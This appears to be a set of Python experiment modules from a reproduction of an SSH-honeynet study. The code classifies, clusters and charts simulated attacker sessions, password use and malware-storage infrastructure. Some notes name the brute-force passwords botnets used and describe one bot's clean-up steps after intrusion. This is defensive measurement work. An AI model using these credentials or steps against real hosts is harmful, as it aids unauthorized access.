