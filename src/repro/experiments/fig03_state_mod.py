"""Figure 3: state-modifying sessions, split by execution attempts."""

from __future__ import annotations

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.analysis.monthly import monthly_groups, overall_shares, top_n_shares
from repro.analysis.statechange import StateClass, state_class
from repro.config import PAPER
from repro.experiments.base import Experiment, register
from repro.util.timeutils import parse_month


class _StateModBase(Experiment):
    wanted_class: StateClass

    def sessions(self, dataset):
        return [
            s
            for s in dataset.database.command_sessions()
            if state_class(s) == self.wanted_class
        ]

    def table(self, sessions):
        per_month = monthly_groups(sessions, DEFAULT_CLASSIFIER.classify)
        top3 = top_n_shares(per_month, 3)
        rows = []
        for month in sorted(per_month):
            total = sum(per_month[month].values())
            cells = [month, total]
            for name, share in top3[month]:
                cells.append(f"{name}:{share:.0%}")
            while len(cells) < 5:
                cells.append("-")
            rows.append(cells)
        return per_month, rows


@register
class Fig03aFileModifiers(_StateModBase):
    """Figure 3(a): add/modify/delete files without executing them."""

    experiment_id = "fig03a"
    title = "State-modifying sessions without file execution"
    paper_reference = "Figure 3(a)"
    wanted_class = StateClass.STATE_NO_EXEC

    def run(self, dataset):
        sessions = self.sessions(dataset)
        per_month, rows = self.table(sessions)
        shares = overall_shares(per_month)
        notes = [
            f"mdrfckr share: {shares.get('mdrfckr', 0.0):.1%} (paper: >90%)",
            f"curl_maxred sessions: "
            f"{sum(c.get('curl_maxred', 0) for c in per_month.values())} "
            f"(paper: ~{PAPER.curl_maxred_sessions:,} at full scale, "
            "Jan-Apr 2024 only)",
            f"total: {len(sessions)} (paper {PAPER.state_no_exec_sessions:,} "
            "at full scale)",
        ]
        return self.result(
            ["month", "sessions", "top1", "top2", "top3"], rows, notes
        )


@register
class Fig03bFileExec(_StateModBase):
    """Figure 3(b): sessions that attempt to execute files."""

    experiment_id = "fig03b"
    title = "Sessions attempting file execution"
    paper_reference = "Figure 3(b)"
    wanted_class = StateClass.STATE_EXEC

    def run(self, dataset):
        sessions = self.sessions(dataset)
        per_month, rows = self.table(sessions)
        shares = overall_shares(per_month)
        top3 = sorted(shares.items(), key=lambda kv: -kv[1])[:3]
        bbox_unlabelled_months = sorted(
            m for m, c in per_month.items() if c.get("bbox_unlabelled", 0) > 0
        )
        last_bbox = bbox_unlabelled_months[-1] if bbox_unlabelled_months else "-"
        late = [m for m in per_month if parse_month(m) >= parse_month("2023-01")]
        early = [m for m in per_month if parse_month(m) < parse_month("2023-01")]

        def mean_volume(months):
            if not months:
                return 0.0
            return sum(sum(per_month[m].values()) for m in months) / len(months)

        notes = [
            "top-3 exec categories cover "
            f"{sum(s for _, s in top3):.1%} (paper: ~50%)",
            f"bbox_unlabelled last active month: {last_bbox} "
            "(paper: abrupt end mid-2022)",
            f"volume decline: {mean_volume(early):.0f} → {mean_volume(late):.0f} "
            "sessions/month (paper: marked downward trend from late 2022)",
        ]
        return self.result(
            ["month", "sessions", "top1", "top2", "top3"], rows, notes
        )
