"""Figure 6: the top clusters (bots) over time."""

from __future__ import annotations

from collections import Counter, defaultdict

from repro.analysis.monthly import session_month
from repro.experiments.base import Experiment, register
from repro.util.timeutils import parse_month


@register
class Fig06ClustersOverTime(Experiment):
    """Monthly share of the top-5 clusters among file sessions."""

    experiment_id = "fig06"
    title = "Top clusters over time"
    paper_reference = "Figure 6"

    def run(self, dataset):
        clustering = dataset.clustering()
        top5 = sorted(clustering.profiles, key=lambda p: -p.size)[:5]
        top_ids = {p.raw_index: p for p in top5}
        per_month: dict[str, Counter] = defaultdict(Counter)
        session_cluster = {}
        for profile in clustering.profiles:
            for session in profile.sessions:
                session_cluster[session.session_id] = profile
        for session in clustering.sessions:
            profile = session_cluster[session.session_id]
            name = (
                profile.label if profile.raw_index in top_ids else "Others"
            )
            per_month[session_month(session)][name] += 1
        rows = []
        for month in sorted(per_month):
            counter = per_month[month]
            total = sum(counter.values())
            top_two = ", ".join(
                f"{name}:{count / total:.0%}"
                for name, count in counter.most_common(2)
            )
            rows.append([month, total, top_two])
        # family continuity notes
        family_months: dict[str, list[str]] = defaultdict(list)
        for profile in clustering.profiles:
            for family in profile.families[:1]:
                for session in profile.sessions:
                    family_months[family].append(session_month(session))
        notes = [
            "top-5 clusters: "
            + "; ".join(f"{p.label} ({p.size} sessions)" for p in top5),
        ]
        xor_months = sorted(set(family_months.get("XorDDoS", [])))
        if xor_months:
            notes.append(
                f"XorDDoS-labelled activity last seen {xor_months[-1]} "
                "(paper: sudden stop in early 2024)"
            )
        mirai_months = sorted(set(family_months.get("Mirai", [])))
        if mirai_months:
            recent = [
                m for m in mirai_months if parse_month(m).year == 2024
            ]
            notes.append(
                f"Mirai-labelled activity in 2024 months: {recent} "
                "(paper: spring-2024 resurgence)"
            )
        notes.extend(dataset.coverage_notes())
        return self.result(["month", "file sessions", "top clusters"], rows, notes)
