"""Figure 5: the normalized DLD matrix over clusters."""

from __future__ import annotations

import numpy as np

from repro.analysis.clusterlabel import sorted_distance_matrix
from repro.experiments.base import Experiment, register


@register
class Fig05DldMatrix(Experiment):
    """Cluster-sorted distance structure + the k-selection trace."""

    experiment_id = "fig05"
    title = "Normalized DLD matrix and cluster selection"
    paper_reference = "Figure 5"

    def run(self, dataset):
        clustering = dataset.clustering()
        profiles = clustering.profiles
        rows = []
        for profile in profiles:
            members = clustering.result.members(profile.raw_index)
            sub = clustering.matrix[np.ix_(members, members)]
            internal = float(sub.mean()) if members.size > 1 else 0.0
            rows.append(
                [
                    f"C-{profile.rank}",
                    profile.size,
                    f"{profile.avg_tokens:.1f}",
                    f"{internal:.3f}",
                    ", ".join(profile.families[:3]) or "-",
                ]
            )
        ordered = sorted_distance_matrix(
            clustering.matrix, clustering.result, profiles
        )
        block_mean = float(ordered.mean()) if ordered.size else 0.0
        selection = clustering.selection
        avg_tokens = [p.avg_tokens for p in profiles]
        monotone = all(
            a <= b + 1e-9 for a, b in zip(avg_tokens, avg_tokens[1:])
        )
        notes = [
            f"k selected: {selection.chosen_k} (elbow {selection.elbow_k}, "
            f"silhouette {selection.silhouette_k}; paper uses k=90 on the "
            "full dataset — k scales with sample diversity)",
            f"clusters sorted by avg tokens (monotone: {monotone}); "
            "C-1 is the shortest-command cluster as in the paper",
            f"matrix mean normalized DLD: {block_mean:.3f}; "
            "within-cluster means are far below it (block-diagonal "
            "structure of Figure 5)",
        ]
        from repro.reporting.figures import ascii_heatmap

        heatmap = ascii_heatmap(
            ordered,
            title="cluster-sorted normalized DLD matrix "
            "(block diagonal = tight clusters):",
        )
        return self.result(
            ["cluster", "sessions", "avg tokens", "within-dist", "families"],
            rows,
            notes,
            extra_text=heatmap,
        )
