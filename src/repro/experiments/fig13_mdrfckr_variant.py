"""Figure 13: mdrfckr-initial vs mdrfckr-variant vs the 3245 campaign."""

from __future__ import annotations

from repro.analysis.logins import sessions_with_password
from repro.analysis.mdrfckr_case import (
    CAMPAIGN_PASSWORD,
    ip_overlap_with_campaign,
    mdrfckr_sessions,
    split_variants,
)
from repro.analysis.monthly import monthly_counts
from repro.config import PAPER
from repro.experiments.base import Experiment, register


@register
class Fig13MdrfckrVariant(Experiment):
    """Monthly volumes of the three correlated behaviours."""

    experiment_id = "fig13"
    title = "mdrfckr behaviour change and the 3245gs5662d34 campaign"
    paper_reference = "Figure 13"

    def run(self, dataset):
        ssh = dataset.database.ssh_sessions()
        mdrfckr = mdrfckr_sessions(dataset.database.command_sessions())
        initial, variant = split_variants(mdrfckr)
        campaign = sessions_with_password(
            [s for s in ssh if s.login_succeeded], CAMPAIGN_PASSWORD
        )
        initial_monthly = monthly_counts(initial)
        variant_monthly = monthly_counts(variant)
        campaign_monthly = monthly_counts(campaign)
        months = sorted(
            set(initial_monthly) | set(variant_monthly) | set(campaign_monthly)
        )
        rows = [
            [
                month,
                initial_monthly.get(month, 0),
                variant_monthly.get(month, 0),
                campaign_monthly.get(month, 0),
            ]
            for month in months
        ]
        variant_months = sorted(variant_monthly)
        campaign_months = sorted(campaign_monthly)
        overlap = ip_overlap_with_campaign(mdrfckr, ssh)
        active_ratio_months = [
            m
            for m in months
            if initial_monthly.get(m, 0) > 0 and variant_monthly.get(m, 0) > 0
        ]
        ratios = [
            initial_monthly[m] / variant_monthly[m]
            for m in active_ratio_months
        ]
        mean_ratio = sum(ratios) / len(ratios) if ratios else 0.0
        notes = [
            f"variant first month: "
            f"{variant_months[0] if variant_months else '-'}; campaign first "
            f"month: {campaign_months[0] if campaign_months else '-'} "
            "(paper: both begin 2022-12-08)",
            f"initial:variant volume ratio ≈ {mean_ratio:.0f}x "
            "(paper: at least an order of magnitude)",
            f"client-IP overlap between mdrfckr and the campaign: "
            f"{overlap:.1%} (paper: {PAPER.mdrfckr_ip_overlap:.1%})",
            "variant behaviour: no root-password change, removes "
            "/tmp/auth.sh and /tmp/secure.sh (WorkMiner), clears "
            "/etc/hosts.deny — exactly the paper's four changes",
        ]
        return self.result(
            ["month", "mdrfckr-initial", "mdrfckr-variant", "login-3245"],
            rows,
            notes,
        )
