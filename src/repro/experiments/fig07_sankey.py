"""Figure 7: client AS type vs malware-storage AS type (Sankey)."""

from __future__ import annotations

from collections import Counter

from repro.analysis.storage import (
    client_storage_flows,
    download_observations,
    flow_graph,
    same_ip_fraction,
)
from repro.experiments.base import Experiment, register


@register
class Fig07Sankey(Experiment):
    """Flows from attacking-client AS types to storage AS types."""

    experiment_id = "fig07"
    title = "Client vs malware-storage AS types"
    paper_reference = "Figure 7"

    def run(self, dataset):
        observations = download_observations(
            dataset.database.command_sessions()
        )
        flows = client_storage_flows(observations, dataset.whois)
        rows = [
            [client, storage, "same-ip" if same else "different", count]
            for (client, storage, same), count in sorted(
                flows.items(), key=lambda kv: -kv[1]
            )
        ]
        client_types: Counter = Counter()
        storage_types: Counter = Counter()
        for (client, storage, _), count in flows.items():
            client_types[client] += count
            storage_types[storage] += count
        total = sum(flows.values()) or 1
        different = 1.0 - same_ip_fraction(observations)
        cloudy = (
            storage_types.get("Hosting", 0) + storage_types.get("CDN", 0)
        ) / total
        graph = flow_graph(flows)
        heaviest = max(
            graph.edges(data=True), key=lambda edge: edge[2]["weight"]
        )
        notes = [
            f"storage IP differs from client IP in {different:.0%} of "
            "download observations (paper: 80%)",
            f"heaviest Sankey edge: {heaviest[0]} → {heaviest[1]} "
            f"({heaviest[2]['weight']} observations) — the ISP/NSP→Hosting "
            "flow the paper's figure shows widest",
            f"client side dominated by ISP/NSP: "
            f"{client_types.get('ISP/NSP', 0) / total:.0%} (paper: most)",
            f"storage side in Hosting/CDN: {cloudy:.0%} (paper: majority "
            "in cloud environments)",
            f"unique storage IPs: "
            f"{len({o.storage_ip for o in observations})}, unique download "
            f"clients: {len({o.client_ip for o in observations})} "
            "(paper: 3k vs 32k — one order of magnitude)",
        ]
        return self.result(
            ["client AS type", "storage AS type", "flow", "observations"],
            rows,
            notes,
        )
