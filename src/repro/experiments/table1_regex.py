"""Table 1: the regex category table and its coverage."""

from __future__ import annotations

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.analysis.regexrules import RULES, UNKNOWN_CATEGORY
from repro.config import PAPER
from repro.experiments.base import Experiment, register


@register
class Table1Regex(Experiment):
    """Per-category session counts plus overall coverage."""

    experiment_id = "table1"
    title = "Command classification rules (Table 1)"
    paper_reference = "Table 1 + section 5"

    def run(self, dataset):
        commands = dataset.database.command_sessions()
        counts = DEFAULT_CLASSIFIER.counts(commands)
        rows = [
            [rule.name, rule.pattern.pattern, counts.get(rule.name, 0)]
            for rule in RULES
        ]
        rows.append(
            [UNKNOWN_CATEGORY, "(fallback)", counts.get(UNKNOWN_CATEGORY, 0)]
        )
        coverage = DEFAULT_CLASSIFIER.coverage(commands)
        matched_categories = sum(
            1 for rule in RULES if counts.get(rule.name, 0) > 0
        )
        notes = [
            f"rule count: {len(RULES)} regex + 1 fallback = "
            f"{len(RULES) + 1} (paper: {PAPER.regex_categories})",
            f"coverage: {coverage:.2%} of {len(commands)} command sessions "
            "matched a rule (paper: >99% of 162M)",
            f"categories with traffic in this run: {matched_categories}",
        ]
        return self.result(["category", "pattern", "sessions"], rows, notes)
