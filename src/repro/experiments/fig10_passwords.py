"""Figure 10: top intrusion passwords over time."""

from __future__ import annotations


from repro.analysis.logins import (
    FIGURE10_PASSWORDS,
    monthly_password_counts,
    sessions_with_password,
    top_passwords,
)
from repro.config import PAPER
from repro.experiments.base import Experiment, register
from repro.util.timeutils import from_epoch


def _monthly_correlation(per_month, password_a: str, password_b: str) -> float:
    """Pearson correlation of two passwords' monthly series."""
    from scipy.stats import pearsonr

    months = sorted(per_month)
    series_a = [per_month[m].get(password_a, 0) for m in months]
    series_b = [per_month[m].get(password_b, 0) for m in months]
    if len(months) < 3 or not any(series_a) or not any(series_b):
        return 0.0
    if len(set(series_a)) == 1 or len(set(series_b)) == 1:
        return 0.0
    return float(pearsonr(series_a, series_b).statistic)


@register
class Fig10Passwords(Experiment):
    """Monthly counts of the five tracked passwords."""

    experiment_id = "fig10"
    title = "Top-5 intrusion passwords over time"
    paper_reference = "Figure 10"

    def run(self, dataset):
        ssh = dataset.database.ssh_sessions()
        logged_in = [s for s in ssh if s.login_succeeded]
        per_month = monthly_password_counts(logged_in)
        rows = []
        for month in sorted(per_month):
            counter = per_month[month]
            rows.append(
                [month]
                + [counter.get(pw, 0) for pw in FIGURE10_PASSWORDS]
            )
        overall = top_passwords(logged_in, 5)
        campaign = sessions_with_password(logged_in, "3245gs5662d34")
        campaign_first = (
            from_epoch(min(s.start for s in campaign)).isoformat()
            if campaign
            else "-"
        )
        campaign_ips = len({s.client_ip for s in campaign})
        silent = sum(1 for s in campaign if not s.executed_commands)
        # the dreambox/vertex synchronization check
        sync_months = [
            m
            for m, c in per_month.items()
            if c.get("dreambox", 0) > 0 or c.get("vertex25ektks123", 0) > 0
        ]
        both = [
            m
            for m in sync_months
            if per_month[m].get("dreambox", 0) > 0
            and per_month[m].get("vertex25ektks123", 0) > 0
        ]
        correlation = _monthly_correlation(
            per_month, "dreambox", "vertex25ektks123"
        )
        notes = [
            f"overall top passwords: {overall}",
            f"3245gs5662d34: {len(campaign)} sessions from {campaign_ips} "
            f"IPs, first seen {campaign_first} (paper: "
            f"{PAPER.login3245_sessions:,} sessions, "
            f"{PAPER.login3245_client_ips:,} IPs, from 2022-12-08 18:00 UTC)",
            f"3245gs5662d34 sessions executing no commands: "
            f"{silent}/{len(campaign)} (paper: all)",
            f"dreambox/vertex synchronized months: {len(both)}/"
            f"{len(sync_months)} active months overlap; monthly Pearson "
            f"correlation {correlation:.2f} (paper: synchronized — one "
            "TV-box botnet)",
        ]
        return self.result(
            ["month", *FIGURE10_PASSWORDS], rows, notes
        )
