"""Figure 14 (appendix B): inter-category normalized DLD."""

from __future__ import annotations

import numpy as np

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.analysis.distance import (
    distance_matrix,
    sample_sessions,
    session_tokens,
)
from repro.experiments.base import Experiment, register

#: Scout categories the paper shows as a separate (top-left) block.
SCOUT_CATEGORIES = {
    "echo_ok", "echo_ok_txt", "uname_a", "uname_svnrm", "uname_svnr",
    "uname_a_nproc", "uname_snri_nproc", "bbox_scout_cat", "ak47_scout",
    "shell_fp",
}


@register
class Fig14CategoryDld(Experiment):
    """Mean pairwise DLD between category exemplar token sequences."""

    experiment_id = "fig14"
    title = "Inter-bot-category normalized DLD"
    paper_reference = "Figure 14 (appendix B)"

    def run(self, dataset):
        sessions = sample_sessions(
            dataset.database.command_sessions(), 1500, seed=dataset.config.seed
        )
        by_category: dict[str, list] = {}
        for session in sessions:
            by_category.setdefault(
                DEFAULT_CLASSIFIER.classify(session), []
            ).append(session)
        # one mean token sequence sample per category (up to 3 exemplars)
        exemplars: dict[str, list[list[str]]] = {}
        for category, members in by_category.items():
            chosen = members[:3]
            exemplars[category] = session_tokens(chosen)
        categories = sorted(exemplars)
        # One distance_matrix call over the flattened exemplars (instead
        # of per-pair normalized_dld): same division, same floats, but
        # the pair work flows through the shared pipeline — its caches,
        # its telemetry, and the dataset's cluster_mode (exact or lsh;
        # the exemplar grid sits far below the sketch activation floor,
        # so both modes produce identical bits here).
        flat: list[list[str]] = []
        spans: dict[str, range] = {}
        for category in categories:
            start = len(flat)
            flat.extend(exemplars[category])
            spans[category] = range(start, len(flat))
        pairwise = distance_matrix(
            flat, workers=dataset.config.workers, mode=dataset.cluster_mode
        )
        rows = []
        matrix: dict[tuple[str, str], float] = {}
        for a in categories:
            for b in categories:
                if b < a:
                    continue
                values = [
                    float(pairwise[i, j])
                    for i in spans[a]
                    for j in spans[b]
                    if not (a == b and i == j)
                ]
                mean = float(np.mean(values)) if values else 0.0
                matrix[(a, b)] = mean
        scout_pairs = [
            v
            for (a, b), v in matrix.items()
            if a != b and a in SCOUT_CATEGORIES and b in SCOUT_CATEGORIES
        ]
        cross_pairs = [
            v
            for (a, b), v in matrix.items()
            if a != b
            and (a in SCOUT_CATEGORIES) != (b in SCOUT_CATEGORIES)
        ]
        for (a, b), value in sorted(matrix.items()):
            if a != b:
                rows.append([a, b, f"{value:.3f}"])
        notes = [
            f"categories compared: {len(categories)}",
            f"mean DLD within the scout block: "
            f"{float(np.mean(scout_pairs)) if scout_pairs else 0:.3f}; "
            f"scout-vs-rest: "
            f"{float(np.mean(cross_pairs)) if cross_pairs else 0:.3f} "
            "(paper: clear separation of the info-gathering block)",
        ]
        return self.result(["category A", "category B", "mean DLD"], rows, notes)
