"""Figure 4: execution attempts split by file presence."""

from __future__ import annotations

from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.analysis.monthly import monthly_groups, top_n_shares
from repro.analysis.statechange import ExecOutcome, exec_outcome
from repro.config import PAPER
from repro.experiments.base import Experiment, register
from repro.util.timeutils import parse_month


class _ExecOutcomeBase(Experiment):
    wanted: ExecOutcome

    def sessions(self, dataset):
        return [
            s
            for s in dataset.database.command_sessions()
            if exec_outcome(s) == self.wanted
        ]

    def monthly_table(self, sessions):
        per_month = monthly_groups(sessions, DEFAULT_CLASSIFIER.classify)
        top3 = top_n_shares(per_month, 3)
        rows = []
        for month in sorted(per_month):
            total = sum(per_month[month].values())
            cells = [month, total]
            for name, share in top3[month]:
                cells.append(f"{name}:{share:.0%}")
            while len(cells) < 5:
                cells.append("-")
            rows.append(cells)
        return per_month, rows


@register
class Fig04aFileExists(_ExecOutcomeBase):
    """Figure 4(a): executed file was present (hash recorded)."""

    experiment_id = "fig04a"
    title = "Exec sessions where the file exists"
    paper_reference = "Figure 4(a)"
    wanted = ExecOutcome.FILE_EXISTS

    def run(self, dataset):
        sessions = self.sessions(dataset)
        per_month, rows = self.monthly_table(sessions)
        early = [m for m in per_month if parse_month(m).year <= 2022]
        late = [m for m in per_month if parse_month(m).year >= 2023]

        def mean_volume(months):
            if not months:
                return 0.0
            return sum(sum(per_month[m].values()) for m in months) / len(months)

        early_rate = mean_volume(early)
        late_rate = mean_volume(late)
        notes = [
            f"total file-exists sessions: {len(sessions)} "
            f"(paper {PAPER.exec_file_exists_sessions:,} at full scale)",
            f"monthly volume collapse: {early_rate:.0f}/mo (2022) → "
            f"{late_rate:.0f}/mo (2023+); paper: >100k/mo → ~5k/mo "
            f"(a {100_000 / 5_000:.0f}x drop; measured "
            f"{early_rate / late_rate if late_rate else float('inf'):.0f}x)",
        ]
        return self.result(
            ["month", "sessions", "top1", "top2", "top3"], rows, notes
        )


@register
class Fig04bFileMissing(_ExecOutcomeBase):
    """Figure 4(b): executed file was never captured."""

    experiment_id = "fig04b"
    title = "Exec sessions where the file is missing"
    paper_reference = "Figure 4(b)"
    wanted = ExecOutcome.FILE_MISSING

    def run(self, dataset):
        sessions = self.sessions(dataset)
        per_month, rows = self.monthly_table(sessions)
        exists_total = len(
            [
                s
                for s in dataset.database.command_sessions()
                if exec_outcome(s) == ExecOutcome.FILE_EXISTS
            ]
        )
        ratio = len(sessions) / exists_total if exists_total else float("inf")
        notes = [
            f"total file-missing sessions: {len(sessions)} "
            f"(paper {PAPER.exec_file_missing_sessions:,} at full scale)",
            f"missing:exists ratio {ratio:.1f} (paper "
            f"{PAPER.exec_file_missing_sessions / PAPER.exec_file_exists_sessions:.1f})",
            "missing files imply transfer channels Cowrie cannot capture "
            "(scp/ftp/rsync), per the paper's interpretation",
        ]
        return self.result(
            ["month", "sessions", "top1", "top2", "top3"], rows, notes
        )
