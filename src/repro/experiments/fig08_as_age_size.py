"""Figure 8: AS age and size of malware storage locations."""

from __future__ import annotations

from collections import Counter

from repro.analysis.storage import (
    AGE_BUCKETS,
    SIZE_BUCKETS,
    download_observations,
    infrastructure_observations,
    monthly_age_buckets,
    monthly_size_buckets,
    summarize_storage_ases,
)
from repro.config import PAPER
from repro.experiments.base import Experiment, register


@register
class Fig08aAsAge(Experiment):
    """Figure 8(a): storage-AS age at download time."""

    experiment_id = "fig08a"
    title = "AS age of malware storage locations"
    paper_reference = "Figure 8(a)"

    def run(self, dataset):
        observations = infrastructure_observations(
            download_observations(dataset.database.command_sessions())
        )
        per_month = monthly_age_buckets(observations, dataset.whois)
        rows = []
        for month in sorted(per_month):
            counter = per_month[month]
            total = sum(counter.values()) or 1
            rows.append(
                [month]
                + [f"{counter.get(bucket, 0) / total:.0%}" for bucket in AGE_BUCKETS]
                + [total]
            )
        totals: Counter = Counter()
        for counter in per_month.values():
            totals.update(counter)
        grand = sum(totals.values()) or 1
        young = totals.get(AGE_BUCKETS[0], 0) / grand
        under5 = young + totals.get(AGE_BUCKETS[1], 0) / grand
        notes = [
            f"AS younger than 1 year: {young:.0%} of download sessions "
            "(paper: >35%)",
            f"AS younger than 5 years: {under5:.0%} (paper: >70%)",
        ]
        return self.result(
            ["month", *AGE_BUCKETS, "sessions"], rows, notes
        )


@register
class Fig08bAsSize(Experiment):
    """Figure 8(b): storage-AS size in deaggregated /24s."""

    experiment_id = "fig08b"
    title = "AS size of malware storage locations"
    paper_reference = "Figure 8(b)"

    def run(self, dataset):
        observations = infrastructure_observations(
            download_observations(dataset.database.command_sessions())
        )
        per_month = monthly_size_buckets(observations, dataset.whois)
        rows = []
        for month in sorted(per_month):
            counter = per_month[month]
            total = sum(counter.values()) or 1
            rows.append(
                [month]
                + [
                    f"{counter.get(bucket, 0) / total:.0%}"
                    for bucket in SIZE_BUCKETS
                ]
                + [total]
            )
        summary = summarize_storage_ases(
            observations, dataset.whois, dataset.config.end
        )
        one = summary.size_session_shares.get(SIZE_BUCKETS[0], 0.0)
        small = one + summary.size_session_shares.get(SIZE_BUCKETS[1], 0.0)
        notes = [
            f"single-/24 ASes: {one:.0%} of sessions (paper: ~20% of ASes)",
            f"ASes under fifty /24s: {small:.0%} (paper: ~50%)",
            f"storage-AS census: {summary.total_ases} ASes "
            f"({summary.hosting_ases} hosting, {summary.isp_ases} ISP, "
            f"{summary.down_ases} down) — paper: {PAPER.storage_ases} "
            f"({PAPER.storage_hosting_ases}/{PAPER.storage_isp_ases}/"
            f"{PAPER.storage_down_ases}) at full scale",
        ]
        return self.result(
            ["month", *SIZE_BUCKETS, "sessions"], rows, notes
        )
