"""repro — reproduction of "Attacks Come to Those Who Wait" (IMC 2025).

A self-contained laboratory for longitudinal SSH-honeynet measurement:
a Cowrie-like medium-interaction honeypot and 221-node honeynet, a
generative attacker ecosystem covering every bot family the paper
classifies, synthetic abuse-database and AS/WHOIS substrates, and the
full analysis pipeline (regex classification, token-DLD clustering,
storage-infrastructure and case-study analyses) with one experiment per
paper table and figure.

Quickstart::

    from repro import SimulationConfig, build_dataset
    dataset = build_dataset(SimulationConfig(scale=2e-5, seed=7))
    print(len(dataset.database.ssh_sessions()), "SSH sessions")
"""

from repro.config import (
    BENCH_CONFIG,
    DEFAULT_CONFIG,
    PAPER,
    PaperNumbers,
    SimulationConfig,
)

__version__ = "1.0.0"

__all__ = [
    "BENCH_CONFIG",
    "DEFAULT_CONFIG",
    "PAPER",
    "PaperNumbers",
    "SimulationConfig",
    "build_dataset",
    "run_simulation",
    "run_experiments",
    "__version__",
]


def build_dataset(config: SimulationConfig = DEFAULT_CONFIG):
    """Generate the full synthetic dataset + external feeds (cached)."""
    from repro.experiments.dataset import build_dataset as _build

    return _build(config)


def run_simulation(config: SimulationConfig = DEFAULT_CONFIG, **kwargs):
    """Run just the honeynet simulation (no abuse feeds or clustering)."""
    from repro.attackers.orchestrator import run_simulation as _run

    return _run(config, **kwargs)


def run_experiments(config: SimulationConfig = DEFAULT_CONFIG):
    """Run every paper table/figure experiment and return the results."""
    from repro.experiments.runner import run_all

    return run_all(config=config)
