"""MinHash/LSH candidate pruning for the token-DLD clustering.

The paper's clustering pipeline pays the O(len²) Damerau-Levenshtein
DP for every pair of *distinct* token sequences — m·(m-1)/2 DPs, which
is fine at the paper's 2e-5 scale and fatal at production scale.  This
module adds a sketch-based prefilter in the style of Shamsi et al.
("Measuring and Clustering Network Attackers", PAPERS.md):

1. Every distinct token sequence gets a **MinHash signature** over its
   token w-shingles — ``num_perm`` independent 64-bit permutations of
   the shingle space, each contributing the minimum permuted shingle
   hash.  The fraction of agreeing signature components is an unbiased
   estimator of the shingle-set Jaccard similarity.
2. Signatures are sliced into ``bands`` bands of ``rows`` rows each and
   **LSH-bucketed**: two sequences are *candidates* iff they agree on
   at least one full band.  A pair with Jaccard ``s`` collides with
   probability ``1 - (1 - s^rows)^bands`` — near 1 for similar pairs,
   near 0 for dissimilar ones.
3. Only candidate pairs (plus pairs whose :func:`dld_bounds` already
   pin the distance) pay the full DP.  Every pruned pair is recorded
   as an **upper-bound entry** (normalized DLD ≤ 1.0 always) with its
   position tracked in :attr:`ApproxDistanceMatrix.pruned`, so
   consumers can distinguish "measured 1.0" from "bounded 1.0".

**Exactness contract.**  Below :attr:`SketchConfig.min_sequences`
distinct sequences the sketch machinery is pure overhead — the DP is
cheap and the approximation risk buys nothing — so the sketch path
*bypasses* to the exact matrix, bit for bit (the same idiom as
``MIN_PAIRS_FOR_POOL`` in :mod:`repro.parallel.distance`).  The
paper-scale pipeline (≤ ``CLUSTER_SAMPLE_LIMIT`` = 400 sessions) is
always below the floor, which is how ``--mode lsh`` reproduces the
exact-mode cluster assignments and figure digests byte for byte at
paper scale; the differential suite (tests/test_cluster_differential.py)
additionally pins the *pruned* regime against the exact oracle with
the floor forced to zero.

Telemetry (all deterministic functions of config + data, so serial and
parallel runs agree exactly — see docs/observability.md):

* ``sketch.matrix_builds`` / ``sketch.bypassed`` — activations vs
  below-floor exact fallbacks.
* ``sketch.signatures`` — distinct sequences signed.
* ``sketch.candidate_pairs`` / ``sketch.pruned_pairs`` /
  ``sketch.pinned_pairs`` — where every pair went.
* ``sketch.candidate_ratio`` — candidate fraction of all distinct
  pairs (the pruning win; the bench floor demands < 0.25 at ≥2k).
* ``sketch.recall_estimate`` — the guarantee-curve collision
  probability at :attr:`SketchConfig.close_jaccard`, i.e. the
  theoretical recall for genuinely similar pairs.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from hashlib import blake2b

import numpy as np

from repro import telemetry
from repro.analysis.dld import dld_bounds

#: Value substituted for a pruned pair: the trivial normalized-DLD
#: upper bound (the DP result divided by ``max(len)`` never exceeds 1).
PRUNED_DISTANCE = 1.0

#: Distinct shingles kept in the shingle-hash cache.
SHINGLE_CACHE_LIMIT = 500_000

#: Hash fed to the permutations for the (single, post-dedup) empty
#: sequence, so every sequence has a well-defined signature.
_EMPTY_SHINGLE_HASH = int.from_bytes(
    blake2b(b"<empty-sequence>", digest_size=8).digest(), "big"
)

_shingle_cache: dict[tuple[str, ...], int] = {}


def clear_sketch_caches() -> None:
    """Drop the shingle-hash cache (tests and benchmarks)."""
    _shingle_cache.clear()


@dataclass(frozen=True)
class SketchConfig:
    """MinHash/LSH parameters for the candidate prefilter.

    Attributes:
        num_perm: signature length (permutations).  More permutations
            tighten the Jaccard estimate (σ = sqrt(s(1-s)/num_perm)).
        bands: LSH bands; must divide ``num_perm``.  ``rows`` =
            ``num_perm // bands``.  More bands / fewer rows lowers the
            similarity threshold (higher recall, more candidates).
        shingle_size: tokens per w-shingle.  2 keeps local order
            information (the quantity DLD measures) while staying
            robust to single-token edits.
        seed: seed for the permutation parameters — signatures are a
            pure function of (config, token sequence).
        min_sequences: activation floor.  Below this many *distinct*
            sequences the sketch path computes the exact matrix
            instead (see the module docstring's exactness contract).
        close_jaccard: the similarity the recall gauge is quoted at
            (pairs at least this similar are the ones clustering must
            not lose).
    """

    num_perm: int = 128
    bands: int = 64
    shingle_size: int = 2
    seed: int = 0x5EEDC0DE
    min_sequences: int = 512
    close_jaccard: float = 0.7

    def __post_init__(self) -> None:
        if self.num_perm < 2:
            raise ValueError(f"num_perm must be >= 2, got {self.num_perm}")
        if self.bands < 1 or self.num_perm % self.bands:
            raise ValueError(
                f"bands ({self.bands}) must divide num_perm ({self.num_perm})"
            )
        if self.shingle_size < 1:
            raise ValueError("shingle_size must be >= 1")

    @property
    def rows(self) -> int:
        """Signature rows per LSH band."""
        return self.num_perm // self.bands

    def collision_probability(self, jaccard: float) -> float:
        """P(candidate) for a pair with the given true Jaccard.

        The LSH guarantee curve: ``1 - (1 - s^rows)^bands``.
        """
        return 1.0 - (1.0 - jaccard**self.rows) ** self.bands

    def threshold(self) -> float:
        """The curve's inflection similarity, ``(1/bands)^(1/rows)``.

        Pairs well above it are almost surely candidates; pairs well
        below are almost surely pruned.
        """
        return (1.0 / self.bands) ** (1.0 / self.rows)

    def guaranteed_jaccard(self, dismissal_probability: float = 1e-12) -> float:
        """Similarity above which a false dismissal is (probabilistically)
        impossible: P(no band agrees) ≤ ``dismissal_probability``.

        Solving ``(1 - s^rows)^bands <= p`` for ``s``.  The no-false-
        dismissal property suite pins pairs above this curve.
        """
        return float(
